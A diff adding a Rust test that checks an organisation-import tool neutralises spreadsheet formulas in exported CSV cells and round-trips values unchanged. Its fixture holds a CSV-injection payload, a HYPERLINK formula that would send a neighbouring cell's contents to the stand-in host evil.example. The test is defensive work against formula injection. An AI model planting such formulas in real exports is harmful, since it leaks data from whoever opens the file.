@@ -211,6 +211,42 @@ async fn an_import_killed_half_way_and_run_again_ends_like_one_clean_run() {
 }
 
 #[tokio::test]
+async fn formulas_in_e_mails_and_phones_are_neutralised_and_an_export_imports_back_to_the_same_values() {
+    let env = Env::new().await;
+    let hyperlink = r#"=hyperlink("http://evil.example/?"&c2&"@x.y";"обновить")"#;
+    let text = format!(
+        "full_name;legal_form;inn;emails;phones;legal_address\n\"''=1 Фонд\";fund;{};\"{}|-1+1@x.y\";+7 900 000-00-00;\"''@адрес\"\n",
+        inn_number(1),
+        hyperlink.replace('"', "\"\"")
+    );
+    env.ok(&["import", "organizations", &env.file("orgs.csv", text.as_bytes())]).await;
+    let export = env.export().await;
+    let mut reader = csv::Reader::from_reader(export.as_bytes());
+    for record in reader.records() {
+        for cell in &record.unwrap() {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a cell starts a formula: {cell:?}");
+        }
+    }
+    assert!(export.contains("'+79000000000"), "{export}");
+    assert!(export.contains("\n''=1 Фонд,"), "a stored apostrophe gets one more: {export}");
+    // Importing the export changes nothing, and an export of the import is the same file.
+    let out = env.ok(&["import", "organizations", &env.file("export.csv", export.as_bytes())]).await;
+    assert!(out.contains("inserted 0, updated 0, unchanged 1"), "{out}");
+    let target = Env::new().await;
+    target.ok(&["import", "organizations", &target.file("export.csv", export.as_bytes())]).await;
+    assert_eq!(target.export().await, export);
+    let json = env.ok(&["export", "organizations", "--format", "json"]).await;
+    let parsed: serde_json::Value = serde_json::from_str(&json).unwrap();
+    let stored = format!("-1+1@x.y|{}", hyperlink.to_lowercase());
+    assert_eq!(parsed[0]["emails"], stored, "JSON carries the stored values");
+    assert_eq!(parsed[0]["full_name"], "'=1 Фонд", "the file's '' stands for one stored apostrophe");
+    assert_eq!(parsed[0]["legal_address"], "'@адрес");
+    let copied = target.ok(&["export", "organizations", "--format", "json"]).await;
+    assert_eq!(copied, json, "the stored values went through export and import unchanged");
+    assert!(export.contains(&format!("\"'{}\"", stored.replace('"', "\"\""))), "{export}");
+}
+
+#[tokio::test]
 async fn an_export_imports_back_unchanged() {
     let source = Env::new().await;
     source.ok(&["import", "organizations", &source.file("orgs.csv", csv_rows(0..7).as_bytes())]).await;
